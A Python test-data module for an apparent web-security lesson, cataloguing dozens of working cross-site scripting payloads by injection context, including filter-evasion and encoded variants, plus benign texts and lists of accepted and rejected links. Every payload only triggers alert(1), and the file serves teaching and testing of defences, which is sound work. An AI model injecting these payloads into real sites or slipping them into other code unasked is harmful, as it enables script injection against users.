"""Hostile text for lesson 03, part two: what makes a browser obey, as data.

Each payload says in which context it lands (`CONTEXTS` holds the page around it), of what kind it
is, and what it proves. All of them do the least that shows: they call `alert(1)`. The tests open
every one of them in Chromium.
"""

from __future__ import annotations

from helpers.tasks.injection.payloads.sql import Payload, of

CONTEXTS = {
    "body": "<p>{}</p>",
    "quoted": '<form><input name="author" value="{}"></form>',
    "single": "<form><input name='author' value='{}'></form>",
    "comment": "<!-- by {} --><p>x</p>",
    "linktext": '<a href="#">{}</a>',
    "unquoted": "<form><input name=author value={}></form>",
    "url": '<a href="{}">source</a>',
    "script": '<script>const author = "{}";</script>',
}

LOAD = "runs as soon as the page is opened"
CLICK = "runs when somebody clicks or points at it"
ONCE = "harmless as it is, runs after a filter removed <script> once"

BODY = [
    *of(
        "body", "script element", LOAD,
        "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<ScRiPt >alert(1)</sCrIpT >",
        "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>",
        '<script type="module">alert(1)</script>', '<script type="">alert(1)</script>',
        "<script type=text/javascript>alert(1)</script>",
        "<script>\\u0061lert(1)</script>", '<script a=">">alert(1)</script b="x">',
        "</p><script>alert(1)</script>", "<b><script>alert(1)</script></b>",
        '<script src="data:text/javascript,alert(1)"></script>',
        "<script>/*<!--*/alert(1)/*-->*/</script>",
    ),
    *of(
        "body", "script in SVG", LOAD,
        "<svg><script>alert(1)</script></svg>", "<svg><script>alert&#40;1)</script></svg>",
        "<svg><script href='data:text/javascript,alert(1)'></script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><style><img src=x onerror=alert(1)></style></math>",
    ),
    *of(
        "body", "event handler", LOAD,
        "<img src=x onerror=alert(1)>", '<img src="data:," onerror="alert(1)">',
        "<IMG SRC=x OnErRoR=alert(1)>", '<img/src="x"/onerror=alert(1)>',
        "<img src=x onerror\n=\nalert(1)>", "<img src=x onerror='alert(1)'>",
        "<img src=x onerror=alert`1`>", "<img src=x onerror=alert(1)//",
        "<image src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
        "<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<style onload=alert(1)></style>",
        "<video src=x onerror=alert(1)></video>", "<audio src=x onerror=alert(1)></audio>",
        "<video><source src=x onerror=alert(1)></video>",
        "<details open ontoggle=alert(1)>", "<iframe onload=alert(1)></iframe>",
        "<script src=data:text/javascript, onload=alert(1)></script>",
        "<link rel=stylesheet href=data:text/css, onload=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
        "<svg><set onbegin=alert(1) attributeName=x></svg>",
        "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=alert(1)>b</b>",
    ),
    *of(
        "body", "focus", LOAD,
        "<input autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)></textarea>",
        "<select autofocus onfocus=alert(1)></select>",
        "<button autofocus onfocus=alert(1)>b</button>",
        "<b tabindex=0 autofocus onfocus=alert(1)>b</b>",
    ),
    *of(
        "body", "encoded handler", LOAD,
        '<img src=x onerror="&#97;lert(1)">', "<img src=x onerror=&#x61;&#x6c;ert(1)>",
        "<img src=x onerror=alert&lpar;1)>", "<img src=x onerror=\\u0061lert(1)>",
        '<img src=x onerror="window[\'al\'+\'ert\'](1)">',
    ),
    *of(
        "body", "frame", LOAD,
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
        '<iframe src="javascript:alert(1)"></iframe>',
        '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
        '<iframe src="java&#10;script:alert(1)"></iframe>',
        '<object data="data:text/html,<script>alert(1)</script>"></object>',
    ),
    *of(
        "body", "script link", CLICK,
        '<a href="javascript:alert(1)">x</a>', "<a href=JaVaScRiPt:alert(1)>x</a>",
        '<a href="java&Tab;script:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>',
        '<a href="&#1;javascript:alert(1)">x</a>', '<a href="javascript&colon;alert(1)">x</a>',
        '<a href="javas&#99;ript:alert(1)">x</a>',
        "<form action=javascript:alert(1)><button>x</button></form>",
        "<form><button formaction=javascript:alert(1)>x</button></form>",
        "<form><input type=submit formaction=javascript:alert(1)></form>",
        '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
        '<svg><a href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    ),
    *of(
        "body", "pointer handler", CLICK,
        "<b onclick=alert(1)>x</b>", "<b onmouseover=alert(1)>x</b>",
        "<b onpointerdown=alert(1)>x</b>", "<xss onmouseenter=alert(1)>x</xss>",
    ),
    *of(
        "body", "broken markup", LOAD,
        "<!--><script>alert(1)</script>", "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><script>alert(1)</script>", "<?x ><script>alert(1)</script>",
        "</x ><script>alert(1)</script>", "<title></title ><script>alert(1)</script>",
        "<textarea></textarea/><img src=x onerror=alert(1)>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        '<b title="<!--"><img src=x onerror=alert(1)></b>',
    ),
    *of(
        "body", "survives stripping", ONCE,
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<SCR<script>IPT>alert(1)</SCR</script>IPT>",
        "<img src=x one<script>rror=alert(1)>",
    ),
]  # fmt: skip

QUOTED = [
    *of(
        "quoted", "closes the attribute", LOAD,
        '" autofocus onfocus="alert(1)', '" onfocus=alert(1) autofocus x="',
        '"/onfocus="alert(1)"/autofocus="', '"\nonfocus\n=\n"alert(1)" autofocus x="',
        '" type=image src=x onerror="alert(1)', '"onfocus=alert(1) autofocus ',
    ),
    *of("quoted", "closes the attribute", CLICK, '" onclick="alert(1)', '" onmouseover="alert(1)'),
    *of(
        "quoted", "closes the element", LOAD,
        '"><script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '"><svg onload=alert(1)>',
        '"/><iframe src=javascript:alert(1)>', '">\'><script>alert(1)</script><!--',
    ),
]  # fmt: skip

UNQUOTED = [
    *of(
        "unquoted", "a space is enough", LOAD,
        "x onfocus=alert(1) autofocus", "x\tonfocus=alert(1)\tautofocus",
        "x\nonfocus=alert(1)\nautofocus", "x\fonfocus=alert(1)\fautofocus",
        "x autofocus onfocus=alert`1`", "x type=image src=x onerror=alert(1)",
    ),
    *of("unquoted", "a space is enough", CLICK, "x onclick=alert(1)", "x onmouseover=alert(1)"),
    *of(
        "unquoted", "closes the element", LOAD,
        "x><script>alert(1)</script>", "><img src=x onerror=alert(1)>",
        '"" onfocus=alert(1) autofocus', "'' onfocus='alert(1)' autofocus",
    ),
]  # fmt: skip

URL = [
    *of(
        "url", "script scheme", CLICK,
        "javascript:alert(1)", "JAVASCRIPT:alert(1)", "JavaScript:alert(1)",
        "javascript:void alert(1)", "javascript:/*x*/alert(1)", "javascript:alert(1)//http://x",
        "javascript://example.org/%0aalert(1)", "javascript:%61lert(1)",
        "javascript:alert(1);'https://example.org'",
    ),
    *of(
        "url", "disguised scheme", CLICK,
        " javascript:alert(1)", "\tjavascript:alert(1)", "\njavascript:alert(1)",
        "java\tscript:alert(1)", "java\nscript:alert(1)", "javascript\n:alert(1)",
        "\x01javascript:alert(1)", "\x1fjavascript:alert(1)", "j\na\nvascript:alert(1)",
    ),
    *of(
        "url", "closes the attribute", CLICK,
        'https://example.org/" onmouseover="alert(1)', 'https://example.org/" onclick="alert(1)',
    ),
]  # fmt: skip

SCRIPT = [
    *of(
        "script", "closes the string", LOAD,
        '";alert(1);"', '";alert(1)//', '"-alert(1)-"', '"+alert(1)+"', '"*alert(1)*"',
        '"||alert(1)||"', '"?0:alert(1)+"', '"\nalert(1)\n"', '";{alert(1)}"',
        '"+{valueOf(){alert(1)}}+"', '"==alert(1)=="', '"in[alert(1)]+"',
    ),
    *of(
        "script", "closes the element", LOAD,
        "</script><script>alert(1)</script>", "</script><img src=x onerror=alert(1)>",
        "</SCRIPT ><svg onload=alert(1)>", "</script/><script>alert(1)//</script>",
        "</script\n><body onload=alert(1)>",
    ),
]  # fmt: skip

SINGLE = [
    *of(
        "single", "closes the single quote", LOAD,
        "' autofocus onfocus='alert(1)", "'><img src=x onerror=alert(1)>",
    ),
    *of("single", "closes the single quote", CLICK, "' onclick='alert(1)"),
]  # fmt: skip
COMMENT = [
    *of(
        "comment", "closes the comment", LOAD,
        "--><script>alert(1)</script>", "--!><img src=x onerror=alert(1)>",
    )
]  # fmt: skip
LINKTEXT = [
    *of(
        "linktext", "address shown as text", LOAD,
        "https://x/<img src=x onerror=alert(1)>", "https://x/</a><script>alert(1)</script>",
        "https://x/\"><script>alert(1)</script>", "https://x/<svg onload=alert(1)>",
        "javascript:<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>",
    )
]  # fmt: skip

XSS: list[Payload] = [
    *BODY, *QUOTED, *UNQUOTED, *SINGLE, *COMMENT, *URL, *LINKTEXT, *SCRIPT,
]  # fmt: skip

# These run nothing by themselves: after them the browser waits for another </script>.
SWALLOW = of(
    "script", "swallows the page", "<!-- and <script in a script: its end tag is no end any more",
    "<!--<script>", "<!--<script ", "<!-- <script>alert(1)//", "<!--<SCRIPT/", "x<!--y<script\tz",
)  # fmt: skip

HONEST_TEXTS = (
    "Siobhan O'Brien", "5 < 6", "6 > 5 && 5 < 6", "I <3 you", "<3", "50% off", "田中 さくら",
    'the "quick" one', "R&D &amp; more", "<b>not bold</b>", "C:\\temp\\new", "price: 5 €",
    "{{ curly }}", "</script>", "a\nb", "🙂 Zoe\u0308 (U+0308), ｶﾙﾃ", "javascript: a language",
    "on error = retry", "<br>", '<a href="https://example.org/">x</a>', "and so on, " * 30 + "to the end",
    "**not bold** -- at https://example.org/ or www.example.org...",
)  # fmt: skip

# Links that a note keeps, and some whose page has no link at all.
LINKS = (
    "https://example.org/", "http://example.org/a?b=1&c=2", "https://example.org/O'Brien",
    "https://例え.example/検査#x", "HTTPS://example.org/Ward", "https://lab@example.org/a@b/javascript:",
)  # fmt: skip
NO_LINKS = (
    "data:text/html,<b>x</b>", "vbscript:x", "notes/1", "", "httpx://example.org", "//evil.example",
    "/notes/1", "#top", "ftp://example.org", "mailto:a@example.org", "file:///etc/passwd",
    "blob:https://example.org/1", "tel:1", "x-app:y", "javascript:x//\nhttps://example.org",
    "x\nhttps://example.org",
)  # fmt: skip


def page(payload: Payload) -> str:
    """The payload dropped raw into the page of its context, as the Clinic as shipped does."""
    return CONTEXTS[payload.context].replace("{}", payload.text)
